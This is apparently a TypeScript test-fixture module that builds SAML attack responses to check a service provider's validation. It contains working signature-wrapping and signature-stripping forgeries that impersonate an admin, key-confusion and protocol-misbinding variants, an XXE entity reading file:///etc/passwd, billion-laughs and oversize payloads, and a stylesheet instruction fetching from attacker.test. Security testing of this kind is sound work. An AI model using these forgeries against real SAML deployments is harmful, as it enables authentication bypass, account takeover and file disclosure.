import { randomBytes } from 'node:crypto';
import { DOMParser, XMLSerializer } from '@xmldom/xmldom';
import { SignedXml } from 'xml-crypto';
import { type TestKeyPair } from './test-keys';

const PROTOCOL_NS = 'urn:oasis:names:tc:SAML:2.0:protocol';
const ASSERTION_NS = 'urn:oasis:names:tc:SAML:2.0:assertion';
const DSIG_NS = 'http://www.w3.org/2000/09/xmldsig#';
const RSA_SHA256 = 'http://www.w3.org/2001/04/xmldsig-more#rsa-sha256';
const HMAC_SHA1 = 'http://www.w3.org/2000/09/xmldsig#hmac-sha1';
const EXC_C14N = 'http://www.w3.org/2001/10/xml-exc-c14n#';
const ENVELOPED = 'http://www.w3.org/2000/09/xmldsig#enveloped-signature';
const SHA256 = 'http://www.w3.org/2001/04/xmlenc#sha256';
const RESPONDER = 'urn:oasis:names:tc:SAML:2.0:status:Responder';

/** Every attack of security-tests §1.2 / §1.3 that can be expressed as one posted SAMLResponse. */
export const SAML_ATTACK_IDS = [
  'XSW-1',
  'XSW-2',
  'XSW-3',
  'XSW-4',
  'XSW-5',
  'XSW-6',
  'XSW-7',
  'XSW-8',
  'XSW-9',
  'XSW-10',
  'XSW-11',
  'XSW-12',
  'XSW-14',
  'XSW-15-nameid',
  'XSW-15-cr-entity',
  'SIG-1',
  'SIG-2',
  'SIG-3',
  'SIG-4',
  'SIG-5',
  'SIG-6',
  'SIG-7',
  'SIG-8',
  'SIG-9',
  'SIG-10-xpath',
  'SIG-10-xslt',
  'SAML-G1-other-acs',
  'SAML-G1-absent',
  'SAML-G2-recipient',
  'SAML-P1-audience',
  'SAML-P2-other-idp',
  'SAML-P3-status',
  'SAML-P4-unknown-request',
  'SAML-T1-expired',
  'SAML-T2-boundary',
  'SAML-T3-not-yet-valid',
  'SAML-T4-confirmation-expired',
  'SAML-T5-too-old',
  'SAML-X1-xxe',
  'SAML-X2-billion-laughs',
  'SAML-X3-deep-nesting',
  'SAML-X4-oversize',
  'PI-stylesheet',
] as const;
export type SamlAttackId = (typeof SAML_ATTACK_IDS)[number];

export interface SamlAttackVariant {
  readonly id: SamlAttackId;
  readonly title: string;
  /** The form field to post: base64 of the attack document. */
  readonly SAMLResponse: string;
}

export interface SamlAttackInputs {
  /** One valid SAMLResponse (base64) from the test IdP: assertion signed, Response unsigned. */
  readonly validResponse: string;
  /** The IdP's own key, for the protocol variants a real IdP would sign (wrong audience, expired…). */
  readonly idp: TestKeyPair;
  /** Another tenant's IdP, trusted by another connection but not by this one. */
  readonly otherIdp: { readonly keys: TestKeyPair; readonly entityId: string };
  readonly attacker: TestKeyPair;
  /** Another connection's ACS URL and SP entity id on the same host. */
  readonly otherAcsUrl: string;
  readonly otherSpEntityId: string;
  readonly clockSkewMs: number;
  readonly now?: Date;
}

/** Variants accepted by a correct SP, each with what it must yield. */
export interface SamlAcceptedVariants {
  /** CMT-1: the IdP signed `victim@…evil.test`; a comment then splits the NameID text after the victim's part. */
  readonly commentInjectedNameId: { readonly SAMLResponse: string; readonly signedNameId: string };
  /** The IdP's clock 20 s ahead: NotBefore in the future but within the skew. */
  readonly withinSkew: string;
  /** Response and assertion both signed by the IdP. */
  readonly responseAndAssertionSigned: string;
}

/**
 * Generates the SAML attack fixtures from one valid, IdP-signed response. Structural attacks
 * (signature wrapping, stripping, canonicalization and parser tricks) edit the signed document
 * without the IdP's key, as an attacker would; protocol attacks (a response for someone else,
 * expired, wrong status) are re-signed with the IdP's key, as if the IdP had issued them.
 */
export class SamlAttackFixtures {
  private readonly valid: string;
  private readonly now: number;

  constructor(private readonly inputs: SamlAttackInputs) {
    this.valid = Buffer.from(inputs.validResponse, 'base64').toString('utf8');
    this.now = (inputs.now ?? new Date()).getTime();
  }

  attacks(): SamlAttackVariant[] {
    const all: Array<[SamlAttackId, string, () => string]> = [
      [
        'XSW-1',
        'evil Response at the root; the signed original Response inside its Signature',
        () => this.xswResponse('inside'),
      ],
      [
        'XSW-2',
        'evil Response at the root; the signed original Response before its Signature',
        () => this.xswResponse('before'),
      ],
      ['XSW-3', 'unsigned evil assertion inserted before the signed one', () => this.xsw3()],
      ['XSW-4', 'signed assertion nested inside an evil assertion', () => this.xsw4()],
      [
        'XSW-5',
        'evil assertion with a copy of the signature in place; signed assertion moved to the end',
        () => this.xsw5(),
      ],
      [
        'XSW-6',
        'evil assertion in place; signed assertion moved into the copied Signature',
        () => this.xsw6(),
      ],
      ['XSW-7', 'evil assertion hidden inside <Extensions>', () => this.xsw7()],
      ['XSW-8', 'evil assertion in place; the original assertion moved into <ds:Object>', () => this.xsw8()],
      ['XSW-9', 'a second, unsigned assertion appended after the signed one', () => this.xsw9()],
      [
        'XSW-10',
        'assertion signature cloned under the Response with an assertion copy in <Object>',
        () => this.xsw10(),
      ],
      ['XSW-11', 'DOCTYPE with an ATTLIST (ruby-saml round-trip differential)', () => this.xsw11()],
      ['XSW-12', 'ds prefix redeclared on SignedInfo to another namespace', () => this.xsw12()],
      ['XSW-14', 'a second root element after the Response', () => this.xsw14()],
      ['XSW-15-nameid', 'one character removed from the signed NameID', () => this.xsw15NameId()],
      ['XSW-15-cr-entity', '&#13; added to the signed NameID', () => this.xsw15CarriageReturn()],
      ['SIG-1', 'signatures stripped from Response and assertion', () => this.stripped()],
      ['SIG-2', 'Response signed by the IdP, assertion unsigned', () => this.responseSignedOnly()],
      ['SIG-3', 'unsigned assertion; the Response signature covers only another element', () => this.sig3()],
      [
        'SIG-4',
        'tampered and re-signed with the attacker key, attacker certificate in KeyInfo',
        () => this.sig4(),
      ],
      ['SIG-5', 'HMAC-SHA1 signature keyed with the IdP certificate', () => this.sig5()],
      ['SIG-6', 'two SignedInfo elements in one Signature', () => this.sig6()],
      ['SIG-7', 'comment inside DigestValue', () => this.sig7()],
      ['SIG-8', 'two elements share the signed assertion ID', () => this.sig8()],
      ['SIG-9', 'two signatures whose Reference URIs name no element', () => this.sig9()],
      ['SIG-10-xpath', 'three transforms, one of them XPath', () => this.sig10('xpath')],
      ['SIG-10-xslt', 'an XSLT transform', () => this.sig10('xslt')],
      [
        'SAML-G1-other-acs',
        "signed Response whose Destination is another tenant's ACS",
        () => this.destination(this.inputs.otherAcsUrl),
      ],
      ['SAML-G1-absent', 'signed Response without Destination', () => this.destination(null)],
      ['SAML-G2-recipient', "Recipient is another tenant's ACS", () => this.recipient()],
      ['SAML-P1-audience', "Audience is another tenant's SP entity id", () => this.audience()],
      ['SAML-P2-other-idp', "issued and signed by another connection's IdP", () => this.otherIdp()],
      ['SAML-P3-status', 'StatusCode Responder with an assertion present', () => this.status()],
      ['SAML-P4-unknown-request', 'InResponseTo names a request never sent', () => this.unknownRequest()],
      [
        'SAML-T1-expired',
        'NotOnOrAfter = now − skew − 1 s',
        () => this.window({ endOffsetMs: -this.inputs.clockSkewMs - 1000 }),
      ],
      [
        'SAML-T2-boundary',
        'NotOnOrAfter = now − skew exactly ("on or after")',
        () => this.window({ endOffsetMs: -this.inputs.clockSkewMs }),
      ],
      [
        'SAML-T3-not-yet-valid',
        'NotBefore = now + skew + 60 s',
        () => this.notYetValid(this.inputs.clockSkewMs + 60_000),
      ],
      [
        'SAML-T4-confirmation-expired',
        'SubjectConfirmationData expired while Conditions valid',
        () => this.confirmationExpired(),
      ],
      [
        'SAML-T5-too-old',
        'issued 10 minutes ago, still inside its validity window',
        () => this.issuedAgo(10 * 60_000),
      ],
      ['SAML-X1-xxe', 'external entity (file:///etc/passwd) in the NameID', () => this.xxe()],
      ['SAML-X2-billion-laughs', 'nested internal entity expansion', () => this.billionLaughs()],
      ['SAML-X3-deep-nesting', '10 000 nested elements in <Extensions>', () => this.deepNesting()],
      ['SAML-X4-oversize', '5 MB SAMLResponse', () => this.oversize()],
      ['PI-stylesheet', 'xml-stylesheet processing instruction', () => this.processingInstruction()],
    ];
    return all.map(([id, title, build]) => ({ id, title, SAMLResponse: base64(build()) }));
  }

  accepted(): SamlAcceptedVariants {
    const signedNameId = 'victim@acme.test.evil.test';
    const signed = this.resignedAsIdp((document) => setText(nameId(document), signedNameId));
    const injected = signed.replace(`>${signedNameId}<`, '>victim@acme.test<!---->.evil.test<');
    return {
      commentInjectedNameId: { SAMLResponse: base64(injected), signedNameId },
      withinSkew: base64(this.notYetValid(20_000, true)),
      responseAndAssertionSigned: base64(this.resignedAsIdp(() => undefined, { signResponse: true })),
    };
  }

  // --- signature wrapping (SAML Raider's XSW transforms and the CVE variants) ---

  private xswResponse(where: 'inside' | 'before'): string {
    const signed = parse(this.resignedAsIdp(() => undefined, { signResponse: true }));
    const original = signed.documentElement;
    const evilDocument = parse(serialize(original));
    const evil = evilDocument.documentElement;
    evil.setAttribute('ID', newId());
    const signature = directChild(evil, DSIG_NS, 'Signature');
    setText(nameId(evilDocument), 'admin@acme.test');
    const originalCopy = evilDocument.importNode(original, true);
    if (where === 'inside') signature.appendChild(originalCopy);
    else evil.insertBefore(originalCopy, signature);
    return serialize(evilDocument);
  }

  private xsw3(): string {
    const document = parse(this.valid);
    const signed = assertion(document);
    const evil = evilAssertionFrom(signed);
    signed.parentNode!.insertBefore(evil, signed);
    return serialize(document);
  }

  private xsw4(): string {
    const document = parse(this.valid);
    const signed = assertion(document);
    const evil = evilAssertionFrom(signed);
    signed.parentNode!.replaceChild(evil, signed);
    evil.appendChild(signed);
    return serialize(document);
  }

  private xsw5(): string {
    const document = parse(this.valid);
    const signed = assertion(document);
    const evil = signed.cloneNode(true) as Element;
    setText(nameIdIn(evil), 'admin@acme.test');
    // The evil copy keeps the signature copy and the ID; the original goes to the end without its ID.
    signed.parentNode!.insertBefore(evil, signed);
    signed.setAttribute('ID', newId());
    document.documentElement.appendChild(signed);
    return serialize(document);
  }

  private xsw6(): string {
    const document = parse(this.valid);
    const signed = assertion(document);
    const evil = signed.cloneNode(true) as Element;
    setText(nameIdIn(evil), 'admin@acme.test');
    evil.setAttribute('ID', newId());
    signed.parentNode!.replaceChild(evil, signed);
    directChild(evil, DSIG_NS, 'Signature').appendChild(signed);
    return serialize(document);
  }

  private xsw7(): string {
    const document = parse(this.valid);
    const signed = assertion(document);
    const extensions = document.createElementNS(PROTOCOL_NS, 'samlp:Extensions');
    extensions.appendChild(evilAssertionFrom(signed));
    document.documentElement.insertBefore(
      extensions,
      directChild(document.documentElement, PROTOCOL_NS, 'Status'),
    );
    return serialize(document);
  }

  private xsw8(): string {
    const document = parse(this.valid);
    const signed = assertion(document);
    const evil = signed.cloneNode(true) as Element;
    setText(nameIdIn(evil), 'admin@acme.test');
    signed.parentNode!.replaceChild(evil, signed);
    const signature = directChild(evil, DSIG_NS, 'Signature');
    const object = document.createElementNS(DSIG_NS, 'ds:Object');
    signed.removeChild(directChild(signed, DSIG_NS, 'Signature'));
    object.appendChild(signed);
    signature.appendChild(object);
    return serialize(document);
  }

  private xsw9(): string {
    const document = parse(this.valid);
    const signed = assertion(document);
    document.documentElement.appendChild(evilAssertionFrom(signed));
    return serialize(document);
  }

  /** CVE-2025-23369: the assertion's signature copied under the Response, a copy of the assertion inside its <Object>. */
  private xsw10(): string {
    const document = parse(this.valid);
    const signed = assertion(document);
    const originalId = signed.getAttribute('ID')!;
    const signatureCopy = directChild(signed, DSIG_NS, 'Signature').cloneNode(true) as Element;
    const object = document.createElementNS(DSIG_NS, 'ds:Object');
    object.appendChild(signed.cloneNode(true));
    signatureCopy.appendChild(object);
    document.documentElement.insertBefore(
      signatureCopy,
      directChild(document.documentElement, PROTOCOL_NS, 'Status'),
    );
    signed.setAttribute('ID', `${originalId}-x`);
    setText(nameIdIn(signed), 'admin@acme.test');
    return serialize(document);
  }

  private xsw11(): string {
    return `<!DOCTYPE samlp:Response [<!ATTLIST saml:NameID Format CDATA "x">]>${this.valid.replace(/^<\?xml[^>]*\?>/, '')}`;
  }

  private xsw12(): string {
    return this.valid.replace('<ds:SignedInfo>', '<ds:SignedInfo xmlns:ds="urn:x-not-xmldsig">');
  }

  private xsw14(): string {
    const evil = serialize(parse(this.valid)).replace(/ ID="[^"]+"/, ` ID="${newId()}"`);
    return `${this.valid}${evil}`;
  }

  private xsw15NameId(): string {
    const document = parse(this.valid);
    const element = nameId(document);
    setText(element, (element.textContent ?? '').slice(1));
    return serialize(document);
  }

  private xsw15CarriageReturn(): string {
    const document = parse(this.valid);
    const text = nameId(document).textContent ?? '';
    return serialize(document).replace(`>${text}<`, `>${text}&#13;<`);
  }

  // --- signature stripping and XML-DSig tricks ---

  private stripped(): string {
    const document = parse(this.valid);
    removeSignatures(document);
    setText(nameId(document), 'admin@acme.test');
    return serialize(document);
  }

  private responseSignedOnly(): string {
    const document = parse(this.valid);
    removeSignatures(document);
    return signElement(
      serialize(document),
      document.documentElement.getAttribute('ID')!,
      this.inputs.idp,
      'response',
    );
  }

  private sig3(): string {
    const document = parse(this.valid);
    removeSignatures(document);
    setText(nameId(document), 'admin@acme.test');
    const extensions = document.createElementNS(PROTOCOL_NS, 'samlp:Extensions');
    const extensionId = newId();
    extensions.setAttribute('ID', extensionId);
    document.documentElement.insertBefore(
      extensions,
      directChild(document.documentElement, PROTOCOL_NS, 'Status'),
    );
    // Signed by the IdP's key, but over the Extensions element only, placed on the Response.
    const extensionSignature = signer(this.inputs.idp, RSA_SHA256);
    extensionSignature.addReference({
      xpath: `//*[@ID='${extensionId}']`,
      transforms: [ENVELOPED, EXC_C14N],
      digestAlgorithm: SHA256,
    });
    extensionSignature.computeSignature(serialize(document), {
      prefix: 'ds',
      location: { reference: "/*[local-name()='Response']/*[local-name()='Issuer']", action: 'after' },
    });
    return extensionSignature.getSignedXml();
  }

  private sig4(): string {
    const document = parse(this.valid);
    removeSignatures(document);
    setText(nameId(document), 'admin@acme.test');
    return signElement(
      serialize(document),
      assertion(document).getAttribute('ID')!,
      this.inputs.attacker,
      'assertion',
    );
  }

  private sig5(): string {
    const document = parse(this.valid);
    removeSignatures(document);
    setText(nameId(document), 'admin@acme.test');
    const hmac = new SignedXml({
      privateKey: this.inputs.idp.certificate,
      signatureAlgorithm: HMAC_SHA1,
      canonicalizationAlgorithm: EXC_C14N,
    });
    hmac.enableHMAC();
    const id = assertion(document).getAttribute('ID')!;
    hmac.addReference({
      xpath: `//*[@ID='${id}']`,
      transforms: [ENVELOPED, EXC_C14N],
      digestAlgorithm: SHA256,
    });
    hmac.computeSignature(serialize(document), {
      prefix: 'ds',
      location: { reference: `//*[@ID='${id}']/*[local-name()='Issuer']`, action: 'after' },
    });
    return hmac.getSignedXml();
  }

  private sig6(): string {
    const document = parse(this.valid);
    const signature = directChild(assertion(document), DSIG_NS, 'Signature');
    const signedInfo = directChild(signature, DSIG_NS, 'SignedInfo');
    const second = signedInfo.cloneNode(true) as Element;
    signature.insertBefore(second, signedInfo);
    setText(nameId(document), 'admin@acme.test');
    return serialize(document);
  }

  private sig7(): string {
    const document = parse(this.valid);
    const digest = descendant(assertion(document), DSIG_NS, 'DigestValue');
    const value = digest.textContent ?? '';
    setText(digest, '');
    digest.appendChild(document.createTextNode(value.slice(0, 10)));
    digest.appendChild(document.createComment('good'));
    digest.appendChild(document.createTextNode(value.slice(10)));
    return serialize(document);
  }

  private sig8(): string {
    const document = parse(this.valid);
    const id = assertion(document).getAttribute('ID')!;
    const extensions = document.createElementNS(PROTOCOL_NS, 'samlp:Extensions');
    const twin = document.createElementNS('urn:x-attacker', 'x:Profile');
    twin.setAttribute('ID', id);
    twin.appendChild(document.createTextNode('admin@acme.test'));
    extensions.appendChild(twin);
    document.documentElement.insertBefore(
      extensions,
      directChild(document.documentElement, PROTOCOL_NS, 'Status'),
    );
    return serialize(document);
  }

  private sig9(): string {
    const document = parse(this.valid);
    const signed = assertion(document);
    const signature = directChild(signed, DSIG_NS, 'Signature');
    const second = signature.cloneNode(true) as Element;
    for (const copy of [signature, second])
      descendant(copy, DSIG_NS, 'Reference').setAttribute('URI', `#${newId()}`);
    signed.insertBefore(second, signature.nextSibling);
    response(document).insertBefore(
      document.importNode(signature, true),
      directChild(document.documentElement, PROTOCOL_NS, 'Status'),
    );
    signed.removeChild(signature);
    setText(nameId(document), 'admin@acme.test');
    return serialize(document);
  }

  private sig10(kind: 'xpath' | 'xslt'): string {
    const document = parse(this.valid);
    const transforms = descendant(assertion(document), DSIG_NS, 'Transforms');
    const transform = document.createElementNS(DSIG_NS, 'ds:Transform');
    if (kind === 'xpath') {
      transform.setAttribute('Algorithm', 'http://www.w3.org/TR/1999/REC-xpath-19991116');
      const xpath = document.createElementNS(DSIG_NS, 'ds:XPath');
      xpath.appendChild(document.createTextNode('not(ancestor-or-self::*[local-name()="NameID"])'));
      transform.appendChild(xpath);
      transforms.appendChild(transform);
    } else {
      transform.setAttribute('Algorithm', 'http://www.w3.org/TR/1999/REC-xslt-19991116');
      const stylesheet = document.createElementNS('http://www.w3.org/1999/XSL/Transform', 'xsl:stylesheet');
      stylesheet.setAttribute('version', '1.0');
      transform.appendChild(stylesheet);
      transforms.replaceChild(transform, transforms.lastChild!);
    }
    return serialize(document);
  }

  // --- protocol: responses the IdP signed, but not for this connection or not now ---

  private destination(destination: string | null): string {
    return this.resignedAsIdp(
      (document) => {
        if (destination === null) response(document).removeAttribute('Destination');
        else response(document).setAttribute('Destination', destination);
      },
      { signResponse: true },
    );
  }

  private recipient(): string {
    return this.resignedAsIdp((document) =>
      descendant(document.documentElement, ASSERTION_NS, 'SubjectConfirmationData').setAttribute(
        'Recipient',
        this.inputs.otherAcsUrl,
      ),
    );
  }

  private audience(): string {
    return this.resignedAsIdp((document) =>
      setText(descendant(document.documentElement, ASSERTION_NS, 'Audience'), this.inputs.otherSpEntityId),
    );
  }

  private otherIdp(): string {
    return this.resignedAsIdp(
      (document) => {
        for (const issuer of descendants(document.documentElement, ASSERTION_NS, 'Issuer'))
          setText(issuer, this.inputs.otherIdp.entityId);
      },
      { keys: this.inputs.otherIdp.keys },
    );
  }

  private status(): string {
    return this.resignedAsIdp((document) =>
      descendant(document.documentElement, PROTOCOL_NS, 'StatusCode').setAttribute('Value', RESPONDER),
    );
  }

  private unknownRequest(): string {
    const unknown = newId();
    return this.resignedAsIdp((document) => {
      response(document).setAttribute('InResponseTo', unknown);
      descendant(document.documentElement, ASSERTION_NS, 'SubjectConfirmationData').setAttribute(
        'InResponseTo',
        unknown,
      );
    });
  }

  private window({ endOffsetMs }: { endOffsetMs: number }): string {
    const end = iso(this.now + endOffsetMs);
    const start = iso(this.now + endOffsetMs - 5 * 60_000);
    return this.resignedAsIdp((document) => {
      const conditions = descendant(document.documentElement, ASSERTION_NS, 'Conditions');
      conditions.setAttribute('NotBefore', start);
      conditions.setAttribute('NotOnOrAfter', end);
      descendant(document.documentElement, ASSERTION_NS, 'SubjectConfirmationData').setAttribute(
        'NotOnOrAfter',
        end,
      );
      setIssueInstants(document, start);
    });
  }

  private notYetValid(aheadMs: number, alsoIssueInstant = false): string {
    return this.resignedAsIdp((document) => {
      const conditions = descendant(document.documentElement, ASSERTION_NS, 'Conditions');
      conditions.setAttribute('NotBefore', iso(this.now + aheadMs));
      conditions.setAttribute('NotOnOrAfter', iso(this.now + aheadMs + 5 * 60_000));
      descendant(document.documentElement, ASSERTION_NS, 'SubjectConfirmationData').setAttribute(
        'NotOnOrAfter',
        iso(this.now + aheadMs + 5 * 60_000),
      );
      if (alsoIssueInstant) setIssueInstants(document, iso(this.now + aheadMs));
    });
  }

  private confirmationExpired(): string {
    return this.resignedAsIdp((document) =>
      descendant(document.documentElement, ASSERTION_NS, 'SubjectConfirmationData').setAttribute(
        'NotOnOrAfter',
        iso(this.now - this.inputs.clockSkewMs - 1000),
      ),
    );
  }

  private issuedAgo(ageMs: number): string {
    return this.resignedAsIdp((document) => setIssueInstants(document, iso(this.now - ageMs)));
  }

  // --- parser attacks ---

  private xxe(): string {
    const body = this.valid.replace(/^<\?xml[^>]*\?>/, '');
    const text = nameId(parse(this.valid)).textContent ?? '';
    return `<?xml version="1.0"?><!DOCTYPE samlp:Response [<!ENTITY x SYSTEM "file:///etc/passwd">]>${body.replace(`>${text}<`, '>&x;<')}`;
  }

  private billionLaughs(): string {
    const entities = Array.from({ length: 9 }, (_, level) =>
      level === 0 ? '<!ENTITY lol0 "lol">' : `<!ENTITY lol${level} "${`&lol${level - 1};`.repeat(10)}">`,
    ).join('');
    const text = nameId(parse(this.valid)).textContent ?? '';
    return `<!DOCTYPE samlp:Response [${entities}]>${this.valid.replace(`>${text}<`, '>&lol8;<')}`;
  }

  private deepNesting(): string {
    const depth = 10_000;
    const nested = `<samlp:Extensions><n xmlns="urn:x">${'<n>'.repeat(depth)}${'</n>'.repeat(depth)}</n></samlp:Extensions>`;
    return this.valid.replace('<samlp:Status>', `${nested}<samlp:Status>`);
  }

  private oversize(): string {
    const padding = `<samlp:Extensions><x:p xmlns:x="urn:x">${'A'.repeat(4 * 1024 * 1024)}</x:p></samlp:Extensions>`;
    return this.valid.replace('<samlp:Status>', `${padding}<samlp:Status>`);
  }

  private processingInstruction(): string {
    return `<?xml-stylesheet type="text/xsl" href="https://attacker.test/x.xsl"?>${this.valid}`;
  }

  /** The valid response with its signatures removed, `mutate` applied, then signed again — by the IdP unless told otherwise. */
  private resignedAsIdp(
    mutate: (document: Document) => void,
    options: { signResponse?: boolean; keys?: TestKeyPair } = {},
  ): string {
    const keys = options.keys ?? this.inputs.idp;
    const document = parse(this.valid);
    removeSignatures(document);
    mutate(document);
    let xml = signElement(serialize(document), assertion(document).getAttribute('ID')!, keys, 'assertion');
    if (options.signResponse)
      xml = signElement(xml, document.documentElement.getAttribute('ID')!, keys, 'response');
    return xml;
  }
}

const parse = (xml: string): Document => new DOMParser().parseFromString(xml, 'text/xml');
const serialize = (node: Node): string => new XMLSerializer().serializeToString(node);
const base64 = (xml: string): string => Buffer.from(xml, 'utf8').toString('base64');
const iso = (ms: number): string => new Date(ms).toISOString();
const newId = (): string => `_${randomBytes(16).toString('hex')}`;

const signer = (keys: TestKeyPair, algorithm: string): SignedXml =>
  new SignedXml({
    privateKey: keys.privateKey,
    publicCert: keys.certificate,
    signatureAlgorithm: algorithm,
    canonicalizationAlgorithm: EXC_C14N,
  });

/** An enveloped RSA-SHA256 signature of the element with `id`, placed after its Issuer as SAML requires. */
const signElement = (xml: string, id: string, keys: TestKeyPair, what: 'assertion' | 'response'): string => {
  const signature = signer(keys, RSA_SHA256);
  signature.addReference({
    xpath: `//*[@ID='${id}']`,
    transforms: [ENVELOPED, EXC_C14N],
    digestAlgorithm: SHA256,
  });
  signature.computeSignature(xml, {
    prefix: 'ds',
    location: {
      reference:
        what === 'response'
          ? "/*[local-name()='Response']/*[local-name()='Issuer']"
          : `//*[@ID='${id}']/*[local-name()='Issuer']`,
      action: 'after',
    },
  });
  return signature.getSignedXml();
};

const elements = (parent: Node): Element[] => {
  const found: Element[] = [];
  for (let node = parent.firstChild; node; node = node.nextSibling)
    if (node.nodeType === 1) found.push(node as Element);
  return found;
};

const descendants = (root: Element, ns: string, localName: string): Element[] => {
  const found: Element[] = [];
  const stack = [root];
  while (stack.length > 0) {
    const element = stack.shift()!;
    if (element.namespaceURI === ns && element.localName === localName) found.push(element);
    stack.push(...elements(element));
  }
  return found;
};

const descendant = (root: Element, ns: string, localName: string): Element => {
  const found = descendants(root, ns, localName)[0];
  if (!found) throw new Error(`fixture: no <${localName}> in the valid response`);
  return found;
};

const directChild = (parent: Element, ns: string, localName: string): Element => {
  const found = elements(parent).find(
    (element) => element.namespaceURI === ns && element.localName === localName,
  );
  if (!found) throw new Error(`fixture: no <${localName}> under <${parent.localName}>`);
  return found;
};

const response = (document: Document): Element => document.documentElement;
const assertion = (document: Document): Element =>
  directChild(document.documentElement, ASSERTION_NS, 'Assertion');
const nameId = (document: Document): Element => nameIdIn(assertion(document));
const nameIdIn = (assertionElement: Element): Element => descendant(assertionElement, ASSERTION_NS, 'NameID');

const setText = (element: Element, text: string): void => {
  while (element.firstChild) element.removeChild(element.firstChild);
  element.appendChild(element.ownerDocument.createTextNode(text));
};

const removeSignatures = (document: Document): void => {
  for (const signature of descendants(document.documentElement, DSIG_NS, 'Signature'))
    signature.parentNode!.removeChild(signature);
};

const setIssueInstants = (document: Document, instant: string): void => {
  response(document).setAttribute('IssueInstant', instant);
  assertion(document).setAttribute('IssueInstant', instant);
};

/** An unsigned copy of the assertion naming the administrator, under a fresh ID. */
const evilAssertionFrom = (signed: Element): Element => {
  const evil = signed.cloneNode(true) as Element;
  evil.setAttribute('ID', newId());
  for (const signature of descendants(evil, DSIG_NS, 'Signature'))
    signature.parentNode!.removeChild(signature);
  setText(nameIdIn(evil), 'admin@acme.test');
  return evil;
};
